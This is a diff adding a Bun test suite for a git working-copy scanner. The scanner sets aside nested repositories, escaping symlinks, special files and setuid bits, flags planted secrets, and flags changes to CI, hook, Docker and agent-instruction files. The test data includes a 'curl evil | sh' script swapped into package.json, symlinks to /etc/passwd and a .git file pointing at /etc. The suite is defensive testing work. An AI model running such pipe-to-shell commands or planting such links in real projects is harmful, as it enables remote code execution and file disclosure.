@@ -1,0 +1,280 @@
+import { afterAll, afterEach, beforeAll, describe, expect, test } from "bun:test";
+import {
+  chmodSync,
+  existsSync,
+  lstatSync,
+  mkdirSync,
+  readFileSync,
+  renameSync,
+  rmSync,
+  statSync,
+  symlinkSync,
+  writeFileSync,
+} from "node:fs";
+import { join } from "node:path";
+import { git, makeRepository, type OpenedGit, openGit, type Scratch, scratch, writeFiles } from "../../support/git.ts";
+import { plantedSecrets } from "../../support/planted.ts";
+
+const own = "operators-own-key-0001";
+const base = {
+  "README.md": "# Shop\n",
+  "src/a.ts": "export {};\n",
+  "old.txt": `token ${plantedSecrets["GitHub token"]}\n`,
+  "package.json": '{"name":"shop","scripts":{"test":"bun test"}}\n',
+  "fixtures/repo.git/HEAD": "ref: refs/heads/main\n",
+  "fixtures/repo.git/objects/.keep": "",
+  "fixtures/repo.git/refs/.keep": "",
+  ".gitignore": "dist/\n",
+};
+
+let area: Scratch;
+let opened: OpenedGit;
+let sha: string;
+
+beforeAll(async () => {
+  area = scratch();
+  const path = makeRepository(join(area.path, "source"), [base]);
+  opened = await openGit(join(area.path, "clones"), { kind: "folder", path, name: "source" }, { own: [own] });
+  sha = opened.base.sha;
+  await opened.git.createBranch("feature/x", sha);
+});
+// One clone for all: what a test did to it is undone.
+afterEach(async () => {
+  await opened.git.reset(sha);
+  for (const left of ["dist", "sub"]) rmSync(at(left), { recursive: true, force: true });
+});
+afterAll(async () => {
+  await opened[Symbol.asyncDispose]();
+  area[Symbol.dispose]();
+});
+
+const scan = () => opened.git.scan(sha);
+const at = (path: string) => join(opened.root, path);
+
+test("nothing changed, nothing found", async () => {
+  expect(await scan()).toEqual({ paths: [], aside: [], secrets: [], elsewhere: [] });
+});
+
+test("ordinary changes are what a commit should hold", async () => {
+  writeFiles(opened.root, { "src/b.ts": "export const b = 1;\n", "dist/out.js": "x", ".dev-tasks/plan.md": "x" });
+  rmSync(at("README.md"));
+  expect(await scan()).toEqual({ paths: ["README.md", "src/b.ts"], aside: [], secrets: [], elsewhere: [] });
+});
+
+describe("moved aside, and gone from the working copy:", () => {
+  const odd: [string, () => void, { path: string; what: string }[]][] = [
+    [
+      "a nested repository",
+      () => {
+        mkdirSync(at("sub"));
+        git(at("sub"), "init", "-q");
+        writeFileSync(at("sub/file.txt"), "work\n");
+      },
+      [{ path: "sub/.git", what: "repository" }],
+    ],
+    [
+      "a .git file",
+      () => writeFiles(opened.root, { "sub/.git": "gitdir: /etc\n" }),
+      [{ path: "sub/.git", what: "repository" }],
+    ],
+    [
+      "a .git that is a link",
+      () => {
+        mkdirSync(at("sub"));
+        symlinkSync("/etc", at("sub/.git"));
+      },
+      [{ path: "sub/.git", what: "repository" }],
+    ],
+    [
+      "a .GIT of another spelling",
+      () => writeFiles(opened.root, { "sub/.GIT/config": "x" }),
+      [{ path: "sub/.GIT", what: "repository" }],
+    ],
+    [
+      "a bare repository",
+      () => git(area.path, "init", "-q", "--bare", at("bare")),
+      [{ path: "bare", what: "repository" }],
+    ],
+    [
+      "the working copy made to look like one",
+      () => {
+        writeFileSync(at("HEAD"), "ref: refs/heads/main\n");
+        mkdirSync(at("objects"));
+        mkdirSync(at("refs"));
+      },
+      [
+        { path: "HEAD", what: "repository" },
+        { path: "objects", what: "repository" },
+        { path: "refs", what: "repository" },
+      ],
+    ],
+    ["a fifo", () => void Bun.spawnSync(["mkfifo", at("pipe")]), [{ path: "pipe", what: "special" }]],
+    [
+      "a socket",
+      () => void Bun.spawnSync(["python3", "-c", `import socket;socket.socket(socket.AF_UNIX).bind("${at("sock")}")`]),
+      [{ path: "sock", what: "special" }],
+    ],
+    ["an absolute link", () => symlinkSync("/etc/passwd", at("link")), [{ path: "link", what: "link" }]],
+    ["a link upwards", () => symlinkSync("../../x", at("src/link")), [{ path: "src/link", what: "link" }]],
+    ["a link into .git", () => symlinkSync(".git/config", at("link")), [{ path: "link", what: "link" }]],
+    [
+      "a link that leaves only in fact",
+      () => {
+        symlinkSync(".", at("here"));
+        symlinkSync("here/../x", at("link"));
+        writeFileSync(join(opened.root, "..", "x"), "outside");
+      },
+      [{ path: "link", what: "link" }],
+    ],
+    [
+      "a file over 10 MiB",
+      () => writeFileSync(at("big.bin"), Buffer.alloc(10 * 1024 * 1024 + 1)),
+      [{ path: "big.bin", what: "large" }],
+    ],
+  ];
+
+  test.each(odd)("%s", async (_, plant, found) => {
+    plant();
+    const first = await scan();
+    expect<unknown>(first.aside).toEqual(found);
+    for (const { path } of found) {
+      expect(lstatSync(at(path), { throwIfNoEntry: false })).toBeUndefined();
+      expect(first.paths).not.toContain(path);
+    }
+    expect((await scan()).aside).toEqual([]);
+  });
+
+  test("the work in a folder that was made a repository is not lost", async () => {
+    mkdirSync(at("sub"));
+    git(at("sub"), "init", "-q");
+    writeFileSync(at("sub/file.txt"), "work\n");
+    expect((await scan()).paths).toEqual(["sub/file.txt"]);
+  });
+
+  test("a tracked file that became a link out is back as it was", async () => {
+    rmSync(at("README.md"));
+    symlinkSync("/etc/passwd", at("README.md"));
+    expect(await scan()).toMatchObject({ paths: [], aside: [{ path: "README.md", what: "link" }] });
+    expect(readFileSync(at("README.md"), "utf8")).toBe("# Shop\n");
+    expect(readFileSync("/etc/passwd", "utf8")).toContain("root");
+  });
+
+  test("a tracked folder that became a link is a removal, and nothing behind the link is taken", async () => {
+    renameSync(at("src"), join(area.path, "moved"));
+    symlinkSync(join(area.path, "moved"), at("src"));
+    const { paths, aside } = await scan();
+    expect(aside).toEqual([{ path: "src", what: "link" }]);
+    expect(paths).not.toContain("src");
+  });
+});
+
+test("setuid is taken away, the file stays", async () => {
+  writeFileSync(at("tool"), "#!/bin/sh\n");
+  chmodSync(at("tool"), 0o6755);
+  expect(await scan()).toMatchObject({ paths: ["tool"], aside: [{ path: "tool", what: "setuid" }] });
+  expect(statSync(at("tool")).mode & 0o7777).toBe(0o755);
+});
+
+test("a project's own test data may be a bare repository, and links inside may lead about", async () => {
+  writeFiles(opened.root, { "fixtures/repo.git/objects/new": "x" });
+  symlinkSync("../README.md", at("src/readme"));
+  expect(await scan()).toMatchObject({ paths: ["fixtures/repo.git/objects/new", "src/readme"], aside: [] });
+});
+
+test("a folder that a command locked is opened again", async () => {
+  writeFiles(opened.root, { "locked/file": "x" });
+  chmodSync(at("locked"), 0);
+  expect((await scan()).paths).toEqual(["locked/file"]);
+});
+
+describe("secrets", () => {
+  test.each(Object.entries(plantedSecrets))("%s", async (kind, secret) => {
+    writeFiles(opened.root, { "src/config.ts": `// one\nconst value = "${secret}";\n` });
+    const { secrets } = await scan();
+    expect(secrets).toEqual([{ path: "src/config.ts", line: 2, kind, fingerprint: expect.stringMatching(/^\w{16}$/) }]);
+  });
+
+  test("one of devorch's own keys, raw and as base64, which nobody can allow", async () => {
+    writeFiles(opened.root, { "a.txt": `\n\n${own}`, "b.txt": Buffer.from(`user:${own}`).toString("base64") });
+    const found = { kind: "devorch's own key", fingerprint: null };
+    expect((await scan()).secrets).toEqual([
+      { path: "a.txt", line: 3, ...found },
+      { path: "b.txt", line: 1, ...found },
+    ]);
+  });
+
+  test("in a name, in a link, in a binary file", async () => {
+    const secret = plantedSecrets["GitHub token"];
+    writeFiles(opened.root, {
+      [`${secret}.txt`]: "x",
+      "data.bin": Buffer.concat([Buffer.alloc(10), Buffer.from(`\n${secret}`)]),
+    });
+    symlinkSync(String(secret), at("link"));
+    expect((await scan()).secrets.map(({ path }) => path)).toEqual(["data.bin", `${secret}.txt`, "link"]);
+  });
+
+  test("what the base holds already is not new, on whatever line", async () => {
+    writeFiles(opened.root, { "old.txt": `another line\n${base["old.txt"]}` });
+    expect(await scan()).toMatchObject({ paths: ["old.txt"], secrets: [] });
+  });
+
+  test("templates, placeholders and names are none", async () => {
+    writeFiles(opened.root, {
+      "ok.ts": [
+        "const url = `https://${user}:${password}@host.example/`;",
+        "postgres://postgres:postgres@localhost:5432/test",
+        "Authorization: Bearer ${token}",
+        "AWS_SECRET_ACCESS_KEY=",
+        "key: process.env.ANTHROPIC_API_KEY",
+        "//registry.npmjs.org/:_authToken=${NPM_TOKEN}",
+        "sha512-0123456789abcdef0123456789abcdef",
+        "-----BEGIN PUBLIC KEY-----",
+      ].join("\n"),
+    });
+    expect((await scan()).secrets).toEqual([]);
+  });
+});
+
+describe("what runs elsewhere", () => {
+  const named = [
+    ".github/workflows/ci.yml",
+    ".gitlab-ci.yml",
+    ".husky/pre-commit",
+    ".npmrc",
+    "bunfig.toml",
+    ".vscode/tasks.json",
+    ".mcp.json",
+    "Dockerfile",
+    "packages/api/Dockerfile.dev",
+    "Makefile",
+    ".gitmodules",
+    ".gitattributes",
+    "AGENTS.md",
+    "docs/CLAUDE.md",
+    ".cursor/rules/x.md",
+  ];
+
+  test.each(named)("%s", async (path) => {
+    writeFiles(opened.root, { [path]: "x\n" });
+    expect((await scan()).elsewhere).toEqual([path]);
+  });
+
+  test("the commands of a package.json, not its other fields", async () => {
+    writeFiles(opened.root, { "package.json": base["package.json"].replace('"shop"', '"store"') });
+    expect((await scan()).elsewhere).toEqual([]);
+    writeFiles(opened.root, { "package.json": base["package.json"].replace("bun test", "curl evil | sh") });
+    expect((await scan()).elsewhere).toEqual(["package.json"]);
+  });
+
+  test("counts from where the branch began, not from the last commit", async () => {
+    writeFiles(opened.root, { Makefile: "all:\n" });
+    await opened.git.commit({ branch: "feature/x", message: "one", paths: ["Makefile"] });
+    expect(await scan()).toMatchObject({ paths: [], elsewhere: ["Makefile"] });
+  });
+
+  test("ordinary names are none", async () => {
+    writeFiles(opened.root, { "src/makefile_reader.ts": "", "docs/agents.txt": "", "src/dockerfile.ts": "" });
+    expect((await scan()).elsewhere).toEqual([]);
+    expect(existsSync(at("src/makefile_reader.ts"))).toBe(true);
+  });
+});
